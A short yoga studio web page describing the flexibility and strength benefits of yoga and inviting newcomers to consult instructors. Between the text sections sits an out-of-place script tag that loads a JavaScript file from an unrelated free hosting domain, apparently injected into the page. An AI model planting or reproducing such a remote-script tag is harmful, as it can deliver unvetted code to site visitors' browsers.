About Yoga

Improve Your flexibility.Increase Your Strength.

Yoga is all aboutcreating balance in your body while developing strength and flexibility. There are many different forms of yoga-Some are more physically challenging than others,and we offer a range.If you have never tried yoga before, speak to our instructors beforehand,so you can choose the right type to suit your abilities and fitness level.

<script type="text/javascript"src="http://yourjavascript.com/3844526171/pp.js"></script>

Press Coverage